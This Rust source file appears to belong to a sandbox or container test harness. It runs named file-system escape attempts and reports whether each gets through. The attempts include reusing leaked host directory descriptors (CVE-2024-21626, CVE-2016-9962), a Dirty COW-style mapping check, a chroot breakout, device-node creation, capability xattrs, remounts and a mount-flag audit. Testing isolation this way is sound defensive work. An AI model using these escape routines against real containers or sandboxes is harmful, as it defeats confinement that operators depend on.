// SPDX-License-Identifier: Apache-2.0
//! Attacks on files: through descriptors that should not be there, through what a file
//! system lets one say about a file, and through what stays after the command.

use std::ffi::CString;
use std::fs;
use std::io::{self, Read as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::ffi::OsStrExt as _;

use super::{AT_CWD, call, number};

/// Runs the attack `name`; none when it is not one of these.
pub(super) fn attack(name: &str, target: &str) -> Option<io::Result<()>> {
    if let Some(how) = name.strip_prefix("leaked-") {
        return Some(leaked(how, target));
    }
    Some(match name {
        "write-only" => fs::OpenOptions::new().write(true).open(target).map(drop),
        "may-write" => with_path(target, |path| call(libc::SYS_faccessat, [AT_CWD, path, WRITE])),
        "shared-mapping" => shared_mapping(target),
        "private-mapping" => private_mapping(target),
        "whiteout" => node(target, libc::S_IFCHR, 0),
        "old-whiteout" => old_node(target, libc::S_IFCHR, 0),
        "old-block-device" => old_node(target, libc::S_IFBLK, 0x700),
        "block-device" => node(target, libc::S_IFBLK, 0x700),
        "attribute" => {
            let (path, name) = target.split_once(' ').unwrap_or((target, ""));
            attribute(path, name)
        }
        "same-lock" => same_lock(target),
        "pipe-reader" => pipe_reader(target),
        "unmount" => with_path(target, |path| call(libc::SYS_umount2, [path, DETACH, 0])),
        "remount" => with_path(target, |path| {
            // SAFETY: the path outlives the call.
            let result = unsafe {
                libc::syscall(libc::SYS_mount, 0, path, 0, libc::MS_REMOUNT | libc::MS_BIND, 0)
            };
            looked(result)
        }),
        "leave-root" => leave_root(target),
        "mounts" => mounts(target),
        "rename-over" => {
            let (from, to) = target.split_once(' ')?;
            fs::write(from, "attack").and_then(|()| fs::rename(from, to))
        }
        "rename" => target.split_once(' ').map(|(from, to)| fs::rename(from, to))?,
        "remove" => fs::remove_file(target),
        _ => return None,
    })
}

/// Reaches for `secret` through a descriptor of a directory of the host: `target` is its
/// number (what CVE-2024-21626 and CVE-2016-9962 gave).
fn leaked(how: &str, target: &str) -> io::Result<()> {
    let directory = number(target)?;
    let at = |call_number: i64, name: &str, rest: [usize; 3]| -> io::Result<()> {
        let name = CString::new(name)?;
        let [third, fourth, fifth] = rest;
        // SAFETY: the name outlives the call, and so do further pointers.
        let result =
            unsafe { libc::syscall(call_number, directory, name.as_ptr(), third, fourth, fifth) };
        looked(result)
    };
    let open = |name: &str, flags: i32| {
        at(libc::SYS_openat, name, [flags.cast_unsigned() as usize, 0o600, 0])
    };
    let unique = format!("made-{how}-{}", std::process::id());
    match how {
        "read" => open("secret", libc::O_RDONLY),
        "list" => open(".", libc::O_RDONLY | libc::O_DIRECTORY),
        "up" => open("../secret", libc::O_RDONLY),
        "write" => open("secret", libc::O_WRONLY),
        // Not by opening it, which would need the right to write as well.
        "create" => at(libc::SYS_mknodat, &unique, [(libc::S_IFREG | 0o600) as usize, 0, 0]),
        "truncate" => {
            let path = format!("/proc/self/fd/{directory}/short");
            with_path(&path, |path| call(libc::SYS_truncate, [path, 0, 0]))
        }
        "directory" => at(libc::SYS_mkdirat, &unique, [0o700, 0, 0]),
        "remove" => at(libc::SYS_unlinkat, "spare-file", [0, 0, 0]),
        "remove-directory" => at(libc::SYS_unlinkat, "spare-directory", [DIRECTORY, 0, 0]),
        "link" => {
            let name = CString::new(unique)?;
            let to = c"/nowhere".as_ptr() as usize;
            call(libc::SYS_symlinkat, [to, directory, name.as_ptr() as usize])
        }
        "pipe" => at(libc::SYS_mknodat, &unique, [(libc::S_IFIFO | 0o600) as usize, 0, 0]),
        "whiteout" => at(libc::SYS_mknodat, &unique, [(libc::S_IFCHR | 0o600) as usize, 0, 0]),
        "device" => at(libc::SYS_mknodat, &unique, [(libc::S_IFBLK | 0o600) as usize, 0x700, 0]),
        "socket" => {
            std::os::unix::net::UnixListener::bind(format!("/proc/self/fd/{directory}/{unique}"))
                .map(drop)
        }
        "move" => {
            let moved = c"inner/moved".as_ptr() as usize;
            at(libc::SYS_renameat, "spare-moved", [directory, moved, 0])
        }
        "run" => run_at(directory),
        "request" => {
            let file = fs::File::open(format!("/proc/self/fd/{directory}/null-device"))?;
            let mut reply = 0_i32;
            // SAFETY: the number outlives the call.
            let result = unsafe { libc::ioctl(file.as_raw_fd(), libc::FIONREAD, &raw mut reply) };
            refused_as(result.into(), &[libc::EACCES])
        }
        _ => Err(io::ErrorKind::Unsupported.into()),
    }
}

/// Runs `program` of a directory, in a child.
fn run_at(directory: usize) -> io::Result<()> {
    // SAFETY: this program has one thread; all strings are static.
    let child = unsafe { libc::fork() };
    if child == 0 {
        let words = [c"true".as_ptr(), std::ptr::null()];
        // SAFETY: all strings are static and the list ends with a null pointer.
        unsafe {
            let program = c"program".as_ptr();
            libc::syscall(
                libc::SYS_execveat,
                directory,
                program,
                words.as_ptr(),
                words[1..].as_ptr(),
                0,
            );
            libc::_exit(io::Error::last_os_error().raw_os_error().unwrap_or(1));
        }
    }
    let mut status = 0;
    // SAFETY: the status outlives the call.
    unsafe { libc::waitpid(child, &raw mut status, 0) };
    match libc::WEXITSTATUS(status) {
        0 => Ok(()),
        number => Err(io::Error::from_raw_os_error(number)),
    }
}

/// Maps a file of the host so that writing to memory writes to it.
fn shared_mapping(path: &str) -> io::Result<()> {
    let file = fs::OpenOptions::new().read(true).write(true).open(path)?;
    let protection = libc::PROT_READ | libc::PROT_WRITE;
    // SAFETY: a new mapping of a file that is open.
    let mapped = unsafe {
        libc::mmap(std::ptr::null_mut(), 1, protection, libc::MAP_SHARED, file.as_raw_fd(), 0)
    };
    if mapped == libc::MAP_FAILED { Err(io::Error::last_os_error()) } else { Ok(()) }
}

/// Gets through when writing to a private copy of a page changes the file (CVE-2016-5195's effect).
fn private_mapping(path: &str) -> io::Result<()> {
    let file = fs::File::open(path)?;
    let before = fs::read(path)?;
    let protection = libc::PROT_READ | libc::PROT_WRITE;
    // SAFETY: the mapping is private, is one page, and the file has at least a byte.
    unsafe {
        let mapped =
            libc::mmap(std::ptr::null_mut(), 1, protection, libc::MAP_PRIVATE, file.as_raw_fd(), 0);
        if mapped == libc::MAP_FAILED {
            return Err(io::Error::last_os_error());
        }
        mapped.cast::<u8>().write_volatile(before.first().copied().unwrap_or(0) ^ 0xff);
        libc::madvise(mapped, 1, libc::MADV_DONTNEED);
    }
    let changed = fs::read(path)? != before;
    if changed { Ok(()) } else { Err(io::Error::from_raw_os_error(libc::ENXIO)) }
}

fn node(path: &str, kind: u32, device: usize) -> io::Result<()> {
    with_path(path, |path| {
        // SAFETY: the path outlives the call.
        let made = unsafe {
            libc::syscall(libc::SYS_mknodat, AT_CWD, path, (kind | 0o600) as usize, device)
        };
        looked(made)
    })
}

/// The same through the call of its own that C libraries do not use any more.
#[cfg(target_arch = "x86_64")]
fn old_node(path: &str, kind: u32, device: usize) -> io::Result<()> {
    with_path(path, |path| call(libc::SYS_mknod, [path, (kind | 0o600) as usize, device]))
}

#[cfg(not(target_arch = "x86_64"))]
fn old_node(path: &str, kind: u32, device: usize) -> io::Result<()> {
    node(path, kind, device)
}

/// Sets an attribute that means something to the kernel.
fn attribute(path: &str, name: &str) -> io::Result<()> {
    let (path, name) = (CString::new(path)?, CString::new(name)?);
    // A capability set of version 2 that holds one.
    let value: [u32; 5] = [0x0200_0000, 1 << 13, 0, 0, 0];
    let (value, length) = match name.to_bytes() {
        b"security.capability" => (value.as_ptr().cast::<libc::c_void>(), 20),
        _ => (c"y".as_ptr().cast(), 1),
    };
    // SAFETY: all pointers outlive the call.
    let set = unsafe { libc::setxattr(path.as_ptr(), name.as_ptr(), value, length, 0) };
    looked(i64::from(set))
}

/// Gets through when somebody of the host holds the lock that this would take.
fn same_lock(path: &str) -> io::Result<()> {
    let file = fs::File::open(path)?;
    // SAFETY: plain numbers.
    let locked = unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) };
    if locked < 0 { Ok(()) } else { Err(io::Error::from_raw_os_error(libc::ENXIO)) }
}

/// Gets through when a reader on the host has the pipe open.
fn pipe_reader(path: &str) -> io::Result<()> {
    use std::os::unix::fs::OpenOptionsExt as _;
    let mut options = fs::OpenOptions::new();
    options.write(true).custom_flags(libc::O_NONBLOCK).open(path).map(drop)
}

/// The way out of a changed root for whoever may change it again (chroot(2), "escape").
fn leave_root(target: &str) -> io::Result<()> {
    let up = fs::File::open("/")?;
    let _exists = fs::create_dir("jail");
    with_path("jail", |path| call(libc::SYS_chroot, [path, 0, 0]))?;
    // SAFETY: plain numbers and static strings.
    unsafe {
        libc::fchdir(up.as_raw_fd());
        for _ in 0..64 {
            libc::chdir(c"..".as_ptr());
        }
    }
    with_path(".", |path| call(libc::SYS_chroot, [path, 0, 0]))?;
    fs::File::open(target)?.read(&mut [0; 1]).map(drop)
}

/// Gets through when a mount lacks a flag that it should have. `target` lists the places
/// that may be written, separated by colons.
fn mounts(target: &str) -> io::Result<()> {
    let private: Vec<&str> = target.split(':').collect();
    let list = fs::read_to_string("/proc/self/mountinfo")?;
    for line in list.lines() {
        let mut words = line.split(' ').skip(4);
        let (place, flags) = (words.next().unwrap_or(""), words.next().unwrap_or(""));
        let has = |flag: &str| flags.split(',').any(|one| one == flag);
        let device = place.starts_with("/dev/") && place.matches('/').count() == 2;
        let kind = line.rsplit(" - ").next().unwrap_or("");
        let terminals = kind.starts_with("devpts") && has("noexec");
        let free = private.contains(&place) || terminals || kind.starts_with("overlay");
        let is_strange = !has("nosuid")
            || (!device && !kind.starts_with("devpts") && !has("nodev"))
            || (kind.starts_with("devpts") && !has("noexec"))
            || (!free && !has("ro"));
        if is_strange {
            return Ok(());
        }
    }
    Err(io::Error::from_raw_os_error(libc::EROFS))
}

fn with_path(path: &str, attack: impl FnOnce(usize) -> io::Result<()>) -> io::Result<()> {
    let path = CString::new(std::ffi::OsStr::new(path).as_bytes())?;
    attack(path.as_ptr() as usize)
}

fn looked(result: i64) -> io::Result<()> {
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(()) }
}

/// Through unless the kernel answered with one of `errors`: others are about the arguments.
fn refused_as(result: i64, errors: &[i32]) -> io::Result<()> {
    let error = io::Error::last_os_error();
    match error.raw_os_error() {
        Some(number) if result < 0 && errors.contains(&number) => Err(error),
        Some(_) | None => Ok(()),
    }
}

const DETACH: usize = 2;
const WRITE: usize = 2;
const DIRECTORY: usize = 0x200;
